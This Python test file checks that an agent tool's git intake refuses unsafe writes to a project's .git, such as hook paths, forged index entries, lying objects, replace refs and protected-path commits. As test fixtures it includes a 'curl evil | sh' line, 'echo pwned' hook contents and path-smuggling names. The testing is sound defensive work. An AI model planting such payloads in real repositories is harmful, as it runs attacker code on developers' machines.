"""What the harvest looks into before a run's writes reach the project's `.git` (versioning/gitintake.py), on real
repositories: an index's paths, loose objects and packs, packed refs; and tuiagent's own git ignoring replace refs."""

from __future__ import annotations

import hashlib
import shutil
import struct
import zlib
from pathlib import Path

import pytest

from tests.gitrepo import git, init_repo
from tui_agent.core.sandbox.protected import Guard
from tui_agent.core.versioning.checkpoints import Checkpoints
from tui_agent.core.versioning.gitdoor import run_git
from tui_agent.core.versioning.gitintake import SAME, GitIntake, safe_path


@pytest.mark.parametrize("path", [
    ".git/hooks/post-checkout", ".GIT/hooks/x", "a/.Git/config", ".git./hooks/x", ".git /x", "git~1/hooks/x",
    "GIT~1/x", ".git::$INDEX_ALLOCATION/hooks/x", ".g\u200cit/hooks/x", "a\\.git\\hooks\\x", "../outside", "/etc/x",
    "a//b", "a/./b", "a/../b",
])
def test_paths_git_would_never_check_out_are_unsafe(path: str) -> None:
    assert not safe_path(path)


@pytest.mark.parametrize("path", ["README.md", ".github/workflows/ci.yml", ".gitignore", "src/.gitkeep", "a.git/b",
                                  "git~2/x", "docs/..md"])
def test_ordinary_paths_are_safe(path: str) -> None:
    assert safe_path(path)


def index_with(index: Path, name: bytes, blob: str) -> None:
    """Add to the version 2 index file `index` an entry `name` for `blob`, bypassing git's own path check."""
    data = index.read_bytes()
    signature, version, count = struct.unpack("!4sII", data[:12])
    assert (signature, version) == (b"DIRC", 2)
    entries, offset = [], 12
    for _entry in range(count):
        fixed = data[offset:offset + 62]
        length = struct.unpack("!H", fixed[60:62])[0] & 0xFFF
        entries.append((data[offset + 62:offset + 62 + length], fixed))
        offset += (62 + length + 8) & ~7
    planted = bytearray(entries[-1][1])
    planted[40:60] = bytes.fromhex(blob)
    planted[60:62] = struct.pack("!H", len(name))
    entries.append((name, bytes(planted)))
    body = b"".join(head + path + b"\0" * (8 - (len(head) + len(path)) % 8) for path, head in sorted(entries))
    content = struct.pack("!4sII", b"DIRC", 2, len(entries)) + body
    index.write_bytes(content + hashlib.sha1(content).digest())


@pytest.fixture
def run_index(repo: Path, tmp_path: Path) -> Path:
    """A copy of the project's index, as a run's upper folder holds it."""
    copy = tmp_path / "upper-index"
    shutil.copy(repo / ".git" / "index", copy)
    return copy


@pytest.mark.parametrize("name", [b".git/hooks/post-checkout", b".GIT/hooks/pre-commit", b"../outside"])
def test_an_index_naming_a_path_in_git_or_outside_is_refused(repo: Path, run_index: Path, name: bytes) -> None:
    blob = git(repo, "hash-object", "-w", "README.md").strip()
    intake = GitIntake(repo)
    assert intake.refusal("index", run_index, repo / ".git" / "index", Guard.of(repo).covers) is None
    index_with(run_index, name, blob)
    why = intake.refusal("index", run_index, repo / ".git" / "index", Guard.of(repo).covers)
    assert why is not None and repr(name.decode()) in why


def test_an_index_not_readable_by_git_is_refused(repo: Path, run_index: Path) -> None:
    run_index.write_bytes(b"DIRC" + b"\0" * 40)
    assert GitIntake(repo).refusal("index", run_index, repo / ".git" / "index", Guard.of(repo).covers) is not None


def test_an_index_may_not_add_or_change_a_protected_path_but_may_keep_one(repo: Path, run_index: Path) -> None:
    (repo / ".envrc").write_text("export A=1\n")
    git(repo, "add", ".envrc")
    shutil.copy(repo / ".git" / "index", run_index)
    (repo / "new.py").write_text("x = 1\n")
    git(repo, "add", "new.py", env={"GIT_INDEX_FILE": str(run_index), "PATH": "/usr/bin:/bin"})
    intake, project_index = GitIntake(repo), repo / ".git" / "index"
    assert intake.refusal("index", run_index, project_index, Guard.of(repo).covers) is None  # tracked, unchanged
    (repo / ".envrc").write_text("curl evil | sh\n")
    git(repo, "add", ".envrc", env={"GIT_INDEX_FILE": str(run_index), "PATH": "/usr/bin:/bin"})
    why = intake.refusal("index", run_index, project_index, Guard.of(repo).covers)
    assert why is not None and "'.envrc'" in why


def loose(data: bytes, kind: bytes = b"blob") -> tuple[str, bytes]:
    stored = kind + b" %d\0" % len(data) + data
    return hashlib.sha1(stored).hexdigest(), zlib.compress(stored)


def test_a_new_loose_object_applies_only_when_it_holds_what_its_name_says(repo: Path, tmp_path: Path) -> None:
    name, content = loose(b"print('a')\n")
    _other, wrong = loose(b"print('evil')\n")
    source, intake = tmp_path / "object", GitIntake(repo)
    inner = f"objects/{name[:2]}/{name[2:]}"
    source.write_bytes(content)
    assert intake.refusal(inner, source, repo / ".git" / inner, Guard.of(repo).covers) is None
    for bad in (wrong, content[:-3], content + b"trailing"):
        source.write_bytes(bad)
        assert intake.refusal(inner, source, repo / ".git" / inner, Guard.of(repo).covers) is not None


def test_an_existing_object_file_is_never_changed(repo: Path, tmp_path: Path) -> None:
    blob = git(repo, "rev-parse", "HEAD:README.md").strip()
    inner = f"objects/{blob[:2]}/{blob[2:]}"
    source, intake = tmp_path / "object", GitIntake(repo)
    shutil.copy(repo / ".git" / inner, source)
    assert intake.refusal(inner, source, repo / ".git" / inner, Guard.of(repo).covers) == SAME
    source.write_bytes(loose(b"print('evil')\n")[1])
    assert intake.refusal(inner, source, repo / ".git" / inner, Guard.of(repo).covers)


def test_a_new_pack_applies_only_when_git_verifies_it_and_nothing_else_is_added(repo: Path, tmp_path: Path) -> None:
    other = init_repo(tmp_path / "other")
    git(other, "repack", "-adq")
    pack = next((other / ".git" / "objects" / "pack").glob("*.pack"))
    intake = GitIntake(repo)
    for suffix in (".pack", ".idx"):
        inner = f"objects/pack/{pack.stem}{suffix}"
        assert intake.refusal(inner, pack.with_suffix(suffix), repo / ".git" / inner, Guard.of(repo).covers) is None
    index = pack.with_suffix(".idx")
    data = bytearray(index.read_bytes())
    data[-30] ^= 1  # one byte of an object's offset: the index no longer matches its pack
    index.write_bytes(bytes(data))
    inner = f"objects/pack/{pack.stem}.idx"
    assert GitIntake(repo).refusal(inner, index, repo / ".git" / inner, Guard.of(repo).covers) is not None
    graph = tmp_path / "commit-graph"
    graph.write_bytes(b"CGPH")
    assert GitIntake(repo).refusal("objects/info/commit-graph", graph, repo / ".git/objects/info/commit-graph",
                                   Guard.of(repo).covers) is not None


def test_packed_refs_apply_without_their_replace_refs(repo: Path, tmp_path: Path) -> None:
    head = git(repo, "rev-parse", "HEAD").strip()
    packed = tmp_path / "packed-refs"
    lines = ["# pack-refs with: peeled fully-peeled sorted ", f"{head} refs/heads/main", f"{head} refs/replace/{head}",
             f"^{head}", f"{head} refs/tags/v1", f"^{head}"]
    packed.write_text("\n".join(lines) + "\n")
    intake = GitIntake(repo)
    assert intake.refusal("packed-refs", packed, repo / ".git" / "packed-refs", Guard.of(repo).covers) is None
    assert packed.read_text().splitlines() == [lines[0], lines[1], lines[4], lines[5]]
    assert [inner for inner, _why in intake.told] == ["packed-refs"]


def test_tuiagents_git_ignores_replace_refs(repo: Path) -> None:
    blob = git(repo, "rev-parse", "HEAD:README.md").strip()
    original = (repo / "README.md").read_bytes()
    evil = git(repo, "hash-object", "-w", "app.py").strip()
    git(repo, "replace", blob, evil)
    assert git(repo, "cat-file", "blob", blob).encode() != original  # git itself follows the replace ref
    assert run_git(repo, "cat-file", "blob", blob).stdout == original
    checkpoints = Checkpoints.open(repo)
    assert checkpoints is not None and checkpoints.blob(blob, "README.md") == original


def test_a_sha256_repository_is_checked_in_its_own_object_format(tmp_path: Path) -> None:
    repo = tmp_path / "project"
    repo.mkdir()
    git(repo, "init", "-q", "--object-format=sha256")
    (repo / "README.md").write_text("# demo\n")
    git(repo, "add", "README.md")
    blob = git(repo, "rev-parse", ":README.md").strip()
    inner = f"objects/{blob[:2]}/{blob[2:]}"
    moved = tmp_path / "object"
    (repo / ".git" / inner).rename(moved)  # as if the run had written it
    shutil.copy(repo / ".git" / "index", tmp_path / "index")
    intake = GitIntake(repo)
    assert intake.refusal(inner, moved, repo / ".git" / inner, Guard.of(repo).covers) is None
    assert intake.refusal("index", tmp_path / "index", repo / ".git" / "index", Guard.of(repo).covers) is None


def run_commit(run: Path, path: str, data: str, ref: str = "refs/heads/main") -> Path:
    """In `run` (a copy of the project: the run's `.git`), commit `data` at `path` on top of HEAD and point `ref` at
    it (on top of the person's commit, `refs/person` there); the ref's file there."""
    base = git(run, "rev-parse", "refs/person").strip()
    git(run, "read-tree", base)
    (run / path).parent.mkdir(parents=True, exist_ok=True)
    (run / path).write_text(data)
    git(run, "add", "-f", path)
    tree = git(run, "write-tree").strip()
    commit = git(run, "commit-tree", tree, "-p", base, "-m", path).strip()
    git(run, "update-ref", ref, commit)
    return run / ".git" / ref


@pytest.fixture
def run_copy(repo: Path, tmp_path: Path) -> Path:
    run = Path(shutil.copytree(repo, tmp_path / "run", symlinks=True))
    git(run, "update-ref", "refs/person", "HEAD")
    return run


@pytest.mark.parametrize("ref", ["refs/heads/main", "refs/heads/evil", "HEAD"])
def test_a_ref_may_move_only_to_a_tree_keeping_the_persons_protected_paths(repo: Path, run_copy: Path,
                                                                          ref: str) -> None:
    intake, covers = GitIntake(repo), Guard.of(repo).covers
    ordinary = run_commit(run_copy, "feature.txt", "new\n")
    assert intake.refusal("refs/heads/main", ordinary, repo / ".git" / "refs/heads/main", covers) is None
    git(run_copy, "checkout", "-q", "--detach")
    for path in (".envrc", ".husky/pre-commit", ".vscode/tasks.json"):
        moved = run_commit(run_copy, path, "echo pwned\n", ref)
        why = intake.refusal(ref, moved, repo / ".git" / ref, covers)
        assert why is not None and repr(path) in why, (path, why)


def test_a_new_branch_of_ordinary_commits_applies_where_the_person_tracks_a_protected_path(repo: Path,
                                                                                           tmp_path: Path) -> None:
    (repo / ".envrc").write_text("export A=1\n")
    git(repo, "add", ".envrc")
    git(repo, "commit", "-qm", "the person's .envrc")
    run = Path(shutil.copytree(repo, tmp_path / "run", symlinks=True))
    git(run, "update-ref", "refs/person", "HEAD")
    branch = run_commit(run, "feature.txt", "new\n", "refs/heads/feature")
    assert GitIntake(repo).refusal("refs/heads/feature", branch, repo / ".git" / "refs/heads/feature",
                                   Guard.of(repo).covers) is None


def test_no_ref_moves_when_an_object_file_of_the_run_does_not_check_out(repo: Path, run_copy: Path) -> None:
    """git never checks an object's hash when it reads one: a lying object could show the check a harmless tree."""
    moved = run_commit(run_copy, "feature.txt", "new\n")
    name, _content = loose(b"print('a')\n")
    (run_copy / ".git" / "objects" / name[:2]).mkdir(exist_ok=True)
    (run_copy / ".git" / "objects" / name[:2] / name[2:]).write_bytes(loose(b"print('evil')\n")[1])
    why = GitIntake(repo).refusal("refs/heads/main", moved, repo / ".git" / "refs/heads/main", Guard.of(repo).covers)
    assert why is not None and "check out" in why


def test_packed_refs_lose_the_lines_of_refs_to_a_protected_path(repo: Path, run_copy: Path) -> None:
    run_commit(run_copy, "feature.txt", "new\n")
    run_commit(run_copy, ".envrc", "echo pwned\n", "refs/heads/evil")
    git(run_copy, "pack-refs", "--all")
    packed = run_copy / ".git" / "packed-refs"
    intake = GitIntake(repo)
    assert intake.refusal("packed-refs", packed, repo / ".git" / "packed-refs", Guard.of(repo).covers) is None
    names = [line.split()[1] for line in packed.read_text().splitlines() if not line.startswith(("#", "^"))]
    assert "refs/heads/main" in names and "refs/heads/evil" not in names
    assert intake.held == {"refs/heads/evil"} and "'.envrc'" in intake.told[0][1]


def test_the_reflogs_of_an_ordinary_new_branch_apply_and_one_naming_a_protected_path_does_not(repo: Path,
                                                                                              run_copy: Path) -> None:
    intake, covers = GitIntake(repo), Guard.of(repo).covers
    git(run_copy, "checkout", "-q", "-b", "feature")
    (run_copy / "feature.txt").write_text("new\n")
    git(run_copy, "add", "feature.txt")
    git(run_copy, "commit", "-qm", "feature")  # its reflog's first line starts from no commit (all zeros)
    for inner in ("logs/HEAD", "logs/refs/heads/feature", "refs/heads/feature", "HEAD"):
        assert intake.refusal(inner, run_copy / ".git" / inner, repo / ".git" / inner, covers) is None, inner
    evil = run_commit(run_copy, ".envrc", "echo pwned\n", "refs/heads/evil").read_text().strip()
    with open(run_copy / ".git" / "logs" / "HEAD", "a") as log:
        log.write(f"{evil} {evil} x <x@y> 1 +0000\tevil\n")
    why = intake.refusal("logs/HEAD", run_copy / ".git" / "logs/HEAD", repo / ".git" / "logs/HEAD", covers)
    assert why is not None and "reflog" in why and "'.envrc'" in why


def test_a_refused_packed_ref_keeps_the_persons_packed_line(repo: Path, run_copy: Path) -> None:
    head = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "tag", "-a", "-m", "v1", "v1")
    git(repo, "pack-refs", "--all")  # the person's main and v1 are in packed-refs alone
    person = (repo / ".git" / "packed-refs").read_text().splitlines()
    run_commit(run_copy, ".envrc", "echo pwned\n")
    git(run_copy, "tag", "-f", "-a", "-m", "v1", "v1", "main")
    git(run_copy, "pack-refs", "--all")
    packed = run_copy / ".git" / "packed-refs"
    assert GitIntake(repo).refusal("packed-refs", packed, repo / ".git" / "packed-refs", Guard.of(repo).covers) is None
    lines = packed.read_text().splitlines()
    assert f"{head} refs/heads/main" in lines
    tag = person.index(next(line for line in person if line.endswith(" refs/tags/v1")))
    assert lines[lines.index(person[tag]) + 1] == person[tag + 1] == f"^{head}"
